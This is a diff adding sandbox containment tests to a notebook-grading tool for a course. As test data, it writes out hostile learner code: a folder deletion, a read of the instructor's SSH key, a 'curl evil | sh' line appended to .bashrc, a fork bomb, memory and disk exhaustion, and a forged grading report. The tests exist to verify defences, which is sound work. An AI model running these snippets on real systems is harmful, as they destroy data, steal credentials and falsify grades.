@@ -14,6 +14,7 @@ untouched copies).
 from __future__ import annotations
 
 import csv
+import hashlib
 import io
 import json
 import os
@@ -32,6 +33,8 @@ from course_tools.config import load_course
 from course_tools.config import tomllib
 from course_tools.lessons import CourseExercises
 from course_tools.lessons import find_exercises
+from course_tools.sandbox import Limits
+from course_tools.sandbox import sandbox_support
 
 ROOT = Path(__file__).resolve().parent.parent
 TIMEOUT = 20  # seconds per notebook in the class run; its synthetic notebooks need ~2
@@ -544,6 +547,241 @@ def test_nonsense_options_are_refused(arguments, tmp_path, capsys):
     assert "must be" in error or "its folder does not exist" in error
 
 
+# -------------------------------------------------------------- hostile notebooks
+
+needs_sandbox = pytest.mark.skipif(
+    not sandbox_support().available and not os.environ.get("CI"),
+    reason=f"no sandbox here: {sandbox_support().reason}",
+)
+SECRET = "instructor-private-key-4f2b9c"
+
+
+def checksums(folder: Path, names=None) -> dict[str, str]:
+    """path -> sha256 of its bytes, for every file under ``folder`` (or ``names`` in it)."""
+    paths = [folder / n for n in names] if names is not None else sorted(folder.rglob("*"))
+    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths if p.is_file()}
+
+
+def tracked(root: Path) -> list[str]:
+    listed = subprocess.run(["git", "ls-files", "-z"], cwd=root, capture_output=True, check=True)
+    return [name for name in listed.stdout.decode().split("\0") if name]
+
+
+def kernels_left() -> list[str]:
+    """Processes still running from a contained kernel's folder."""
+    found = []
+    for entry in Path("/proc").iterdir():
+        try:
+            command = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
+        except OSError:
+            continue
+        if "course-kernel-" in command and "kernel_limits" in command:
+            found.append(command[:200])
+    return found
+
+
+def hostile_class(base: Path, victim: Path, listener_port: int) -> dict[str, str]:
+    """One learner per threat, each attacking in exercise 1.2 before defining its
+    answer (1.1 and 1.3 are solved); returns each one's attack, by learner. ``victim``
+    is a folder the sandbox shows, read-only (inside the course); the instructor's home
+    is hidden."""
+    victim.mkdir(parents=True)
+    (victim / "precious.txt").write_text("an instructor's file\n", encoding="utf-8")
+    home = base / "instructor"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_rsa").write_text(SECRET + "\n", encoding="utf-8")
+    (home / ".bashrc").write_text("# the instructor's shell settings\n", encoding="utf-8")
+    threats = {
+        # delete outside its folder, and scribble there
+        "deleter": f"import shutil\nopen({str(victim / 'new.txt')!r}, 'w').write('x')\n"
+        f"shutil.rmtree({str(victim)!r})",
+        # read a file in the instructor's home (and change another)
+        "snoop": f"secret = open({str(home / '.ssh' / 'id_rsa')!r}).read()\n"
+        f"open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh')\n"
+        "raise ValueError(secret)",
+        # a fork bomb
+        "forker": "import os\nwhile True:\n    os.fork()",
+        # 50 GB, a gigabyte at a time, every byte written
+        "hog": "pieces = []\nfor _ in range(50):\n    pieces.append(b'x' * 2**30)",
+        # a network connection (to a listener of this test, on the loopback)
+        "talker": "import socket\n"
+        f"socket.create_connection(('127.0.0.1', {listener_port}), timeout=5).sendall(b'hi')",
+        # an endless loop
+        "looper": "while True:\n    pass",
+        # a file as large as the disk
+        "filler": "with open('big.bin', 'wb') as out:\n"
+        "    for _ in range(1024):\n        out.write(b'x' * 2**20)",
+    }
+    learners = base / "class"
+    for learner, attack in threats.items():
+        code = attack + "\n\ndef square(x):\n    return x * x"
+        write(notebook(1, {"1.2": code}), learners / learner / "01-doubling.ipynb")
+    # overwrite the verdict report to fake a pass on every exercise
+    faker = notebook(1, solved=False)
+    forged = [
+        {"exercise": n, "title": t, "status": "correct", "message": "ok", "seconds": [0.01]}
+        for n, t, *_ in EXERCISES[1]
+    ]
+    faker.cells.append(
+        nbformat.v4.new_code_cell(
+            "import json, os\n"
+            "with open(os.environ['AUTODIFF_COURSE_REPORT'], 'w') as report:\n"
+            f"    for record in {forged!r}:\n"
+            "        report.write(json.dumps(record) + '\\n')"
+        )
+    )
+    write(faker, learners / "faker" / "01-doubling.ipynb")
+    write(notebook(1), learners / "honest" / "01-doubling.ipynb")
+    return threats
+
+
+@pytest.fixture(scope="module")
+def hostile_run(tmp_path_factory):
+    import socket
+    import threading
+
+    base = tmp_path_factory.mktemp("hostile")
+    course = make_course(base / "course")
+    listener = socket.create_server(("127.0.0.1", 0))
+    listener.settimeout(0.5)
+    reached: list[bytes] = []
+    stop = threading.Event()
+
+    def listen():
+        while not stop.is_set():
+            try:
+                connection, _ = listener.accept()
+            except OSError:
+                continue
+            reached.append(connection.recv(100))
+            connection.close()
+
+    thread = threading.Thread(target=listen, daemon=True)
+    thread.start()
+    victim = ROOT / ".cache" / f"hostile-victim-{os.getpid()}"
+    hostile_class(base, victim, listener.getsockname()[1])
+    home = base / "instructor"
+    before = {**checksums(base), **checksums(victim), **checksums(ROOT, tracked(ROOT))}
+    previous_home = os.environ.get("HOME")
+    os.environ["HOME"] = str(home)  # the grader's home: the instructor's
+    try:
+        status, output = run_progress(
+            ["class", "--csv", str(base / "out.csv"), "--timeout", "30", "--jobs", "2"],
+            course,
+            base,
+        )
+    finally:
+        os.environ["HOME"] = previous_home or ""
+        stop.set()
+        thread.join()
+        listener.close()
+    after = {**checksums(base), **checksums(victim), **checksums(ROOT, tracked(ROOT))}
+    shutil.rmtree(victim, ignore_errors=True)
+    rows = list(csv.DictReader((base / "out.csv").open(encoding="utf-8")))
+    return {
+        "status": status,
+        "output": output,
+        "rows": {(row["learner"], row["exercise"]): row for row in rows},
+        "before": before,
+        "after": after,
+        "csv": str(base / "out.csv"),
+        "reached": reached,
+        "left": kernels_left(),
+    }
+
+
+@needs_sandbox
+def test_every_threat_is_contained_and_named_in_the_table_and_the_csv(hostile_run):
+    assert hostile_run["status"] == 0, hostile_run["output"]
+    assert "Each notebook runs in a sandbox (bubblewrap)" in hostile_run["output"]
+    assert table(hostile_run["output"]) == {
+        "deleter": "+S+",
+        "faker": "!!!",
+        "filler": "+F+",
+        "forker": "+P+",
+        "hog": "+M+",
+        "honest": "+++",
+        "looper": "+TT",
+        "snoop": "+S+",
+        "talker": "+S+",
+    }, hostile_run["output"]
+    rows = hostile_run["rows"]
+    expected = {
+        "deleter": "stopped: sandbox",
+        "snoop": "stopped: sandbox",
+        "forker": "stopped: process limit",
+        "hog": "stopped: memory limit",
+        "talker": "stopped: sandbox",
+        "looper": "timeout",
+        "filler": "stopped: file size limit",
+        "faker": "tampered",
+    }
+    for learner, verdict in expected.items():
+        assert rows[learner, "1.2"]["verdict"] == verdict, rows[learner, "1.2"]
+    assert "Read-only file system" in rows["deleter", "1.2"]["detail"]
+    assert "into the report itself" in rows["faker", "1.1"]["detail"]
+
+
+@needs_sandbox
+def test_no_file_outside_the_temporary_folders_changed(hostile_run):
+    before, after = hostile_run["before"], hostile_run["after"]
+    changed = {k for k in set(before) | set(after) if before.get(k) != after.get(k)}
+    assert changed == {hostile_run["csv"]}
+
+
+@needs_sandbox
+def test_the_secret_stays_secret_and_nothing_reached_the_network(hostile_run):
+    assert SECRET not in hostile_run["output"]
+    assert not any(SECRET in " ".join(row.values()) for row in hostile_run["rows"].values())
+    assert hostile_run["reached"] == []
+
+
+@needs_sandbox
+def test_no_process_of_a_contained_kernel_is_left(hostile_run):
+    assert hostile_run["left"] == []
+
+
+def test_without_a_sandbox_progress_says_so_once_and_still_limits(tmp_path):
+    """--no-sandbox: one plain sentence, and the memory limit still stops a hog."""
+    course = make_course(tmp_path / "course")
+    hog = "pieces = [b'x' * 2**30 for _ in range(50)]\n\ndef square(x):\n    return x * x"
+    write(notebook(1, {"1.2": hog}), tmp_path / "class" / "hog" / "01-doubling.ipynb")
+    write(notebook(1), tmp_path / "class" / "honest" / "01-doubling.ipynb")
+    status, output = run_progress(["class", "--no-sandbox", "--jobs", "2"], course, tmp_path)
+    assert status == 0, output
+    lines = [line for line in output.splitlines() if line.startswith("No sandbox: ")]
+    assert len(lines) == 1, output
+    assert "it was turned off (--no-sandbox)" in lines[0]
+    assert "can read and change your files" in lines[0]
+    assert table(output) == {"hog": "+M+", "honest": "+++"}
+
+
+def test_the_cpu_time_limit_stops_a_kernel_that_spins(tmp_path):
+    """Two threads spin past a CPU limit of 3 s, well inside the time limit."""
+    course = make_course(tmp_path / "course")
+    spin = (
+        "import threading\n\ndef spin():\n    while True:\n        pass\n\n"
+        "threading.Thread(target=spin, daemon=True).start()\nspin()"
+    )
+    write(notebook(1, {"1.2": spin}), tmp_path / "class" / "spinner" / "01-doubling.ipynb")
+    out, here = io.StringIO(), Path.cwd()
+    os.chdir(tmp_path)
+    try:
+        status = progress.main(
+            ["class", "--timeout", "60", "--csv", "out.csv"],
+            out=out,
+            course=course,
+            limits=Limits(cpu_seconds=3),
+        )
+    finally:
+        os.chdir(here)
+    assert status == 0, out.getvalue()
+    assert table(out.getvalue()) == {"spinner": "+CC"}, out.getvalue()
+    rows = list(csv.DictReader((tmp_path / "out.csv").open(encoding="utf-8")))
+    assert rows[1]["verdict"] == "stopped: CPU time limit"
+    assert rows[1]["detail"].startswith("the kernel used up its CPU time in code cell 4")
+
+
 # ----------------------------------------------------------------- the real course
 
 
@@ -586,9 +824,11 @@ def test_a_class_on_a_real_lesson(tmp_path, number):
 
 
 def test_course_sh_runs_progress_from_the_callers_folder(tmp_path):
-    """course.sh moves to its own folder; progress must still see the caller's."""
+    """course.sh moves to its own folder; progress must still see the caller's.
+    (The nbgrader environment beside the venv is a fake too, with no pip.)"""
     fake = tmp_path / "venv" / "bin"
     fake.mkdir(parents=True)
+    (tmp_path / "venv-nbgrader" / "bin").mkdir(parents=True)
     record = tmp_path / "called.json"
     (fake / "python").write_text(
         textwrap.dedent(f"""\
@@ -601,6 +841,7 @@ def test_course_sh_runs_progress_from_the_callers_folder(tmp_path):
         """)
     )
     (fake / "python").chmod(0o755)
+    shutil.copy(fake / "python", tmp_path / "venv-nbgrader" / "bin" / "python")
     caller = tmp_path / "somewhere"
     caller.mkdir()
     environment = dict(os.environ, COURSE_VENV=str(tmp_path / "venv"))
